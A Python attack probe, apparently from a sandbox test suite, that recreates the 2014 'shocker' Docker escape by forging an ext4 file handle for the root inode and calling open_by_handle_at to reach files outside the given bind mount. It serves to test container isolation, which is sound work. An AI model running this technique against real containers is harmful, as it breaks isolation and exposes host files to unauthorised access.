"""Attack: "shocker", the 2014 Docker escape — open_by_handle_at(2) opens any inode of a filesystem
by handle, outside the bind mount the sandbox was given. It needs CAP_DAC_READ_SEARCH."""
import ctypes
import errno
import json
import os

# prelude: syscalls  (tests/attacks/prelude/syscalls.py, inserted here by the runner)

import struct

SYS_NAME_TO_HANDLE_AT = 303
SYS_OPEN_BY_HANDLE_AT = 304
AT_FDCWD = -100
MAX_HANDLE_SZ = 128


def handle_for(path):
    handle = ctypes.create_string_buffer(struct.pack("<Ii", MAX_HANDLE_SZ, 0), 8 + MAX_HANDLE_SZ)
    mount_id = ctypes.c_int(0)
    report = raw_syscall(SYS_NAME_TO_HANDLE_AT, AT_FDCWD, path.encode(), handle, ctypes.byref(mount_id), 0)
    return report, handle


def main():
    report, handle = handle_for("/usr")
    if not report["succeeded"]:
        # Forge what shocker forged: an ext4 handle (FILEID_INO32_GEN) for inode 2, a root directory.
        handle = ctypes.create_string_buffer(struct.pack("<IiII", 8, 1, 2, 0), 8 + MAX_HANDLE_SZ)
    mount_fd = os.open("/usr", os.O_RDONLY | os.O_DIRECTORY)
    opened = attempt_syscall(SYS_OPEN_BY_HANDLE_AT, mount_fd, handle, os.O_RDONLY | os.O_DIRECTORY)
    os.close(mount_fd)
    return {"name_to_handle_at": report, "open_by_handle_at": opened}
